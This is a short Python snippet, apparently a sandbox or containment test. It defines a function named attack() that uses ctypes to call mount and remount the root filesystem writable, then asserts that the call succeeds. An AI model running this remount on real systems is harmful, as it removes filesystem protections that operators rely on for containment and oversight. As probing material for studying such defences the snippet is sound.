# The root is made writable.
# control: none
import ctypes

def attack():
    return ctypes.CDLL(None).mount(None, b'/', None, 32 | 4096, None) == 0

# tests
assert attack()
